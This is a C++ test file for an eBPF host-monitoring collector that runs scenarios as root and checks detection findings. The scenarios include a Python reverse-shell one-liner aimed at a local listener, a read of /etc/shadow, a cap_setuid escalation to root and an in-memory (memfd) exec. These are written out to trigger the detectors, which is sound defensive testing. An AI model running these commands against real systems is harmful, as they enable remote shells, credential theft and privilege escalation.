// The collector on the live kernel (root): real programs are executed,
// connect and listen, and the pipeline must report them with their parent
// chains and fire the host rules. The test process itself is the "agent":
// its own events are filtered in the kernel, so every scenario runs in child
// processes. Other activity on the host is ignored by matching on our pids
// and unique paths.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <functional>
#include <thread>

#include "ebpf/host_event_pipeline.h"
#include "testing/test_util.h"

namespace warden {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;

struct Seen {
  HostEvent event;
  std::vector<int64_t> ancestor_pids;
  std::vector<std::string> ancestor_names;
  std::chrono::steady_clock::time_point received;
};

class LiveCollectorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (geteuid() != 0) GTEST_SKIP() << "the collector needs root";
  }

  void Start(bool ebpf, std::vector<std::string> rule_paths = {},
             SyscallEventMode mode = SyscallEventMode::kHooks) {
    HostEventPipelineOptions o;
    o.collector.allow_ebpf = ebpf;
    o.collector.syscall_events = mode;
    o.collector.allow_fallback = !ebpf;  // an eBPF test must not pass on the fallback
    o.persist = false;
    o.rule_paths = std::move(rule_paths);
    auto p = HostEventPipeline::Start(o);
    ASSERT_TRUE(p.ok()) << p.status().message();
    pipeline_ = std::move(*p);
  }

  // Polls until `done` holds or the timeout passes.
  bool PollUntil(const std::function<bool()>& done, seconds timeout = seconds(10)) {
    auto deadline = std::chrono::steady_clock::now() + timeout;
    while (std::chrono::steady_clock::now() < deadline) {
      Status st = pipeline_->Poll(
          milliseconds(100),
          [&](const HostEvent& e, const EventView& v) {
            Seen s{e, {}, {}, std::chrono::steady_clock::now()};
            for (const ProcessRecord* a : v.ancestors) {
              s.ancestor_pids.push_back(a->pid);
              s.ancestor_names.push_back(a->name);
            }
            events_.push_back(std::move(s));
          },
          [&](const Finding& f) { findings_.push_back(f); });
      EXPECT_TRUE(st.ok()) << st.message();
      if (done()) return true;
    }
    return false;
  }

  const Seen* FindEvent(const std::function<bool(const HostEvent&)>& pred) const {
    for (const Seen& s : events_)
      if (pred(s.event)) return &s;
    return nullptr;
  }
  const Finding* FindFinding(const std::string& rule,
                             const std::function<bool(const Finding&)>& pred) const {
    for (const Finding& f : findings_)
      if (f.rule_id == rule && pred(f)) return &f;
    return nullptr;
  }

  // A copy of a system binary under /tmp with a unique name.
  std::string TmpCopyOf(const std::string& binary) {
    std::string path =
        "/tmp/warden-ebpf-test-" + std::to_string(getpid()) + "-" + std::to_string(++copies_);
    std::filesystem::copy_file(binary, path, std::filesystem::copy_options::overwrite_existing);
    std::filesystem::permissions(path, std::filesystem::perms::owner_all);
    cleanup_.push_back(path);
    return path;
  }

  std::string FindingList() const {
    std::string out;
    for (const Finding& f : findings_)
      out += f.rule_id + "(" + f.attributes["process"].get<std::string>() + ") ";
    return out;
  }

  void TearDown() override {
    for (const std::string& p : cleanup_) std::filesystem::remove(p);
  }

  std::unique_ptr<HostEventPipeline> pipeline_;
  std::vector<Seen> events_;
  std::vector<Finding> findings_;
  std::vector<std::string> cleanup_;
  int copies_ = 0;
};

// The socket, set*id and open scenarios run in both ways of seeing them: the
// default hooks (cgroup socket programs, inet_sock_set_state, fanotify,
// set*id inferred from credentials) and the sys_exit dispatcher.
class LiveCollectorModeTest : public LiveCollectorTest,
                              public ::testing::WithParamInterface<SyscallEventMode> {
 protected:
  void Start(std::vector<std::string> rule_paths = {}) {
    LiveCollectorTest::Start(true, std::move(rule_paths), GetParam());
    CollectorStatus s = pipeline_->SourceStatus();
    ASSERT_NE(s.tier_detail.find("syscall_events " + std::string(SyscallEventModeName(GetParam()))),
              std::string::npos)
        << s.tier_detail;
    for (const HookStatus& h : s.hooks) {
      if (h.kind == "tp_btf" || h.kind == "cgroup") {
        EXPECT_TRUE(h.attached) << h.name;
      }
    }
  }
};

INSTANTIATE_TEST_SUITE_P(Modes, LiveCollectorModeTest,
                         ::testing::Values(SyscallEventMode::kHooks, SyscallEventMode::kDispatcher),
                         [](const ::testing::TestParamInfo<SyscallEventMode>& mode) {
                           return std::string(SyscallEventModeName(mode.param));
                         });

int FreePort() {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a));
  socklen_t len = sizeof(a);
  getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len);
  close(fd);
  return ntohs(a.sin_port);
}

TEST_F(LiveCollectorTest, BinaryCopiedToTmpProducesAnExecEventWithItsParentChainAndAFinding) {
  Start(true);
  std::string tool = TmpCopyOf("/bin/true");
  auto ran = std::chrono::steady_clock::now();
  // `; true` keeps sh from exec'ing the tool in its own place.
  ASSERT_EQ(testing::RunShell(tool + " first-arg; true").exit_code, 0);
  auto is_tool = [&](const HostEvent& e) {
    return e.kind == HostEventKind::kExec && e.exe == tool;
  };
  ASSERT_TRUE(PollUntil([&] {
    return FindEvent(is_tool) != nullptr &&
           FindFinding("HOST-EXEC-FROM-TMP",
                       [&](const Finding& f) { return f.attributes["process"] == tool; });
  })) << "no exec event / finding for "
      << tool;
  const Seen* s = FindEvent(is_tool);
  EXPECT_EQ(s->event.argv, (std::vector<std::string>{tool, "first-arg"}));
  EXPECT_EQ(s->event.exec_path, tool);
  EXPECT_EQ(s->event.origin, EventOrigin::kEbpf);
  EXPECT_EQ(s->event.uid, 0);
  // Parent chain: the tool's parent is the `sh -c` the test started, whose
  // parent is this test process.
  const Seen* sh = FindEvent(
      [&](const HostEvent& e) { return e.kind == HostEventKind::kExec && e.pid == s->event.ppid; });
  ASSERT_NE(sh, nullptr);
  EXPECT_EQ(sh->event.exec_path, "/bin/sh");
  EXPECT_EQ(sh->event.ppid, getpid());
  ASSERT_GE(s->ancestor_pids.size(), 2u);
  EXPECT_EQ(s->ancestor_pids[0], sh->event.pid);
  EXPECT_EQ(s->ancestor_names[0], "sh");
  EXPECT_EQ(s->ancestor_pids[1], getpid());
  // Seen within a second of running.
  EXPECT_LT(s->received - ran, seconds(1));
  const Finding* f = FindFinding("HOST-EXEC-FROM-TMP",
                                 [&](const Finding& x) { return x.attributes["process"] == tool; });
  EXPECT_EQ(f->attributes["parent_chain"][0]["pid"], sh->event.pid);
  EXPECT_EQ(f->evidence["process"]["path"], tool);
}

TEST_P(LiveCollectorModeTest, PythonReverseShellToALocalListenerIsDetected) {
  Start();
  int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
  ASSERT_EQ(listen(listener, 1), 0);
  socklen_t len = sizeof(a);
  getsockname(listener, reinterpret_cast<sockaddr*>(&a), &len);
  int port = ntohs(a.sin_port);
  std::thread shell([port] {
    testing::RunCommand(
        {"/usr/bin/python3", "-c",
         "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
         "s.connect((\"127.0.0.1\"," +
             std::to_string(port) +
             "));"
             "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
             "subprocess.call([\"/bin/sh\",\"-i\"])"});
  });
  pollfd p{listener, POLLIN, 0};
  ASSERT_EQ(poll(&p, 1, 10000), 1);
  int conn = accept(listener, nullptr, nullptr);
  ASSERT_GE(conn, 0);
  const char cmd[] = "exit\n";
  ASSERT_EQ(write(conn, cmd, sizeof(cmd) - 1), static_cast<ssize_t>(sizeof(cmd) - 1));
  shell.join();
  close(conn);
  close(listener);
  ASSERT_TRUE(PollUntil([&] {
    return FindFinding("HOST-REVERSE-SHELL", [&](const Finding& f) {
             return f.evidence["stdio_peer"]["port"] == port;
           }) != nullptr;
  })) << "no HOST-REVERSE-SHELL finding";
  const Finding* f = FindFinding("HOST-REVERSE-SHELL", [&](const Finding& x) {
    return x.evidence["stdio_peer"]["port"] == port;
  });
  EXPECT_EQ(f->risk_level, RiskLevel::kExtreme);
  EXPECT_EQ(f->evidence["process"]["stdin"], "inet_socket");
  EXPECT_EQ(f->evidence["parent"]["name"], "python3");
  // The connect itself was seen too, with the python process behind it.
  const Seen* connect = FindEvent([&](const HostEvent& e) {
    return e.kind == HostEventKind::kConnect && e.remote.port == port &&
           e.remote.address == "127.0.0.1";
  });
  ASSERT_NE(connect, nullptr);
  EXPECT_EQ(connect->event.result, 0);
  EXPECT_NE(FindFinding("HOST-REVERSE-SHELL-CMDLINE", [](const Finding&) { return true; }),
            nullptr);
}

TEST_P(LiveCollectorModeTest, ListenerOnANonAllowedPortFiresAndOnAnAllowedOneDoesNot) {
  int allowed = FreePort();
  int other = FreePort();
  while (other == allowed) other = FreePort();
  testing::TempDir dir;
  std::string rules = dir.WriteFile("ports.yaml",
                                    "- id: HOST-LISTEN-UNEXPECTED-PORT\n"
                                    "  title: Listener outside the allowed ports\n"
                                    "  risk_level: medium\n"
                                    "  tags: [attack.t1571]\n"
                                    "  match:\n"
                                    "    event: listen\n"
                                    "    result: 0\n"
                                    "    socket.local_port: {not_in: [" +
                                        std::to_string(allowed) + "]}\n");
  Start({rules});
  auto listen_on = [](int port) {
    return testing::RunCommand(
               {"/usr/bin/python3", "-c",
                "import "
                "socket;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
                "s.bind((\"0.0.0.0\"," +
                    std::to_string(port) + "));s.listen()"})
        .exit_code;
  };
  ASSERT_EQ(listen_on(allowed), 0);
  ASSERT_EQ(listen_on(other), 0);
  auto listen_event = [&](int port) {
    return FindEvent([&](const HostEvent& e) {
      return e.kind == HostEventKind::kListen && e.local.port == port;
    });
  };
  ASSERT_TRUE(PollUntil(
      [&] { return listen_event(allowed) != nullptr && listen_event(other) != nullptr; }));
  PollUntil([] { return false; }, seconds(1));  // let any late finding arrive
  auto fired_for = [&](int port) {
    return FindFinding("HOST-LISTEN-UNEXPECTED-PORT", [&](const Finding& f) {
             return f.evidence["socket"]["local_port"] == port;
           }) != nullptr;
  };
  EXPECT_TRUE(fired_for(other));
  EXPECT_FALSE(fired_for(allowed));
  EXPECT_EQ(listen_event(other)->event.local.address, "0.0.0.0");
  EXPECT_EQ(listen_event(other)->event.protocol, 6);
}

TEST_P(LiveCollectorModeTest, SensitiveOpensSetuidToRootAndMemfdExecsAreDetected) {
  Start();
  ASSERT_EQ(testing::RunShell("cat /etc/shadow > /dev/null").exit_code, 0);
  // An interpreter given cap_setuid (a GTFOBins escalation) makes itself root.
  testing::RunCommand({"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                       "--inh-caps=+setuid", "--ambient-caps=+setuid", "/usr/bin/python3", "-c",
                       "import os; os.setuid(0)"});
  testing::RunCommand({"/usr/bin/python3", "-c",
                       "import os;fd=os.memfd_create('warden-test');"
                       "os.write(fd,open('/bin/true','rb').read());"
                       "os.execv('/proc/self/fd/%d'%fd,['memfd-true'])"});
  ASSERT_TRUE(PollUntil([&] {
    return FindFinding(
               "HOST-SHADOW-READ",
               [](const Finding& f) { return f.attributes["process"] == "/usr/bin/cat"; }) &&
           FindFinding("HOST-SETUID-ROOT", [](const Finding&) { return true; }) &&
           FindFinding("HOST-EXEC-MEMFD", [](const Finding& f) {
             return f.attributes["process"].get<std::string>().find("memfd:warden-test") !=
                    std::string::npos;
           });
  })) << "findings: "
      << FindingList();
  const Finding* setuid = FindFinding("HOST-SETUID-ROOT", [](const Finding&) { return true; });
  EXPECT_EQ(setuid->evidence["setid"]["previous_uid"], 65534);
  EXPECT_EQ(setuid->evidence["process"]["uid"], 0);
  // setpriv's own drop from root to 65534 is a change too, but not to root.
  EXPECT_EQ(FindFinding("HOST-SETUID-ROOT",
                        [](const Finding& f) { return f.evidence["process"]["uid"] != 0; }),
            nullptr);
}

TEST_P(LiveCollectorModeTest, AcceptedConnectionAndBindAreReportedForTheServingProcess) {
  Start();
  int port = FreePort();
  std::string script =
      "import socket;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);"
      "s.bind((\"127.0.0.1\"," +
      std::to_string(port) +
      "));s.listen();"
      "c,a=s.accept();c.recv(1)";
  std::thread server([&] { testing::RunCommand({"/usr/bin/python3", "-c", script}); });
  const Seen* listen_event = nullptr;
  ASSERT_TRUE(PollUntil([&] {
    listen_event = FindEvent([&](const HostEvent& e) {
      return e.kind == HostEventKind::kListen && e.local.port == port;
    });
    return listen_event != nullptr;
  }));
  int64_t server_pid = listen_event->event.pid;
  int client = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(connect(client, reinterpret_cast<sockaddr*>(&a), sizeof(a)), 0);
  socklen_t len = sizeof(a);
  getsockname(client, reinterpret_cast<sockaddr*>(&a), &len);
  int client_port = ntohs(a.sin_port);
  ASSERT_EQ(write(client, "x", 1), 1);
  server.join();
  close(client);
  const Seen* accept_event = nullptr;
  ASSERT_TRUE(PollUntil([&] {
    accept_event = FindEvent([&](const HostEvent& e) {
      return e.kind == HostEventKind::kAccept && e.local.port == port;
    });
    return accept_event != nullptr;
  }));
  EXPECT_EQ(accept_event->event.pid, server_pid);
  EXPECT_EQ(accept_event->event.comm, "python3");
  EXPECT_EQ(accept_event->event.remote.port, client_port);
  EXPECT_EQ(accept_event->event.remote.address, "127.0.0.1");
  const Seen* bind_event = FindEvent(
      [&](const HostEvent& e) { return e.kind == HostEventKind::kBind && e.local.port == port; });
  ASSERT_NE(bind_event, nullptr);
  EXPECT_EQ(bind_event->event.pid, server_pid);
  EXPECT_EQ(bind_event->event.local.address, "127.0.0.1");
  EXPECT_EQ(bind_event->event.result, 0);
}

TEST_F(LiveCollectorTest, NoDropsUnderABurstOfExecs) {
  Start(true);
  auto before = pipeline_->SourceStatus().events["exec"];
  ASSERT_EQ(
      testing::RunShell("i=0; while [ $i -lt 3000 ]; do /bin/true; i=$((i+1)); done").exit_code, 0);
  ASSERT_TRUE(PollUntil([&] { return pipeline_->SourceStatus().events["exec"] >= before + 3000; }));
  CollectorStatus s = pipeline_->SourceStatus();
  ASSERT_FALSE(s.drops.empty());
  for (const auto& [reason, count] : s.drops) EXPECT_EQ(count, 0u) << reason;
  EXPECT_EQ(pipeline_->process_table().evictions(), 0u);
  EXPECT_LE(pipeline_->process_table().size(), pipeline_->process_table().capacity());
  EXPECT_EQ(s.tier, "ebpf");
}

TEST_F(LiveCollectorTest, WithoutTheSyscallHookOnlyProcessLifecycleIsCollectedAndTheGapIsStated) {
  HostEventPipelineOptions o;
  o.collector.allow_fallback = false;
  o.collector.syscall_events = SyscallEventMode::kOff;
  o.persist = false;
  auto p = HostEventPipeline::Start(o);
  ASSERT_TRUE(p.ok()) << p.status().message();
  pipeline_ = std::move(*p);
  CollectorStatus s = pipeline_->SourceStatus();
  bool exec_attached = false;
  for (const HookStatus& h : s.hooks) {
    if (h.name == "sched_process_exec") {
      exec_attached = h.attached;
    } else if (h.name.rfind("sched_process_", 0) != 0) {
      EXPECT_FALSE(h.attached) << h.name;
    }
  }
  EXPECT_TRUE(exec_attached);
  bool stated = false;
  for (const std::string& g : s.coverage_gaps)
    stated = stated || g.find("syscall_events off") != std::string::npos;
  EXPECT_TRUE(stated);
  int port = FreePort();
  testing::RunCommand({"/usr/bin/python3", "-c",
                       "import socket;s=socket.socket();s.bind((\"0.0.0.0\"," +
                           std::to_string(port) + "));s.listen()"});
  ASSERT_TRUE(PollUntil([&] {
    return FindEvent([](const HostEvent& e) {
      return e.kind == HostEventKind::kExec && e.exec_path == "/usr/bin/python3";
    });
  }));
  EXPECT_EQ(FindEvent([&](const HostEvent& e) {
              return e.kind == HostEventKind::kListen && e.local.port == port;
            }),
            nullptr);
}

TEST_F(LiveCollectorTest, FallbackWhenEbpfIsForcedOffStillSeesExecsAndSaysWhatItMisses) {
  Start(false);
  CollectorStatus s = pipeline_->SourceStatus();
  EXPECT_EQ(s.tier, "fallback");
  ASSERT_FALSE(s.coverage_gaps.empty());
  EXPECT_NE(s.coverage_gaps.front().find("eBPF is not in use"), std::string::npos);
  bool mentions_network = false;
  for (const std::string& g : s.coverage_gaps)
    mentions_network = mentions_network || g.find("connect") != std::string::npos;
  EXPECT_TRUE(mentions_network);
  std::string tool = TmpCopyOf("/bin/sleep");
  // The fallback reads exec details from /proc after the fact, so the
  // collector must be polling while the program runs (as the agent does).
  std::thread run([&] { testing::RunShell(tool + " 0.5; true"); });
  bool found = PollUntil([&] {
    return FindFinding("HOST-EXEC-FROM-TMP",
                       [&](const Finding& f) { return f.attributes["process"] == tool; });
  });
  run.join();
  ASSERT_TRUE(found) << "the fallback missed the exec of " << tool;
  const Seen* s2 = FindEvent(
      [&](const HostEvent& e) { return e.kind == HostEventKind::kExec && e.exe == tool; });
  ASSERT_NE(s2, nullptr);
  EXPECT_EQ(s2->event.origin, EventOrigin::kProcConnector);
  EXPECT_EQ(s2->event.argv, (std::vector<std::string>{tool, "0.5"}));
}

}  // namespace
}  // namespace warden
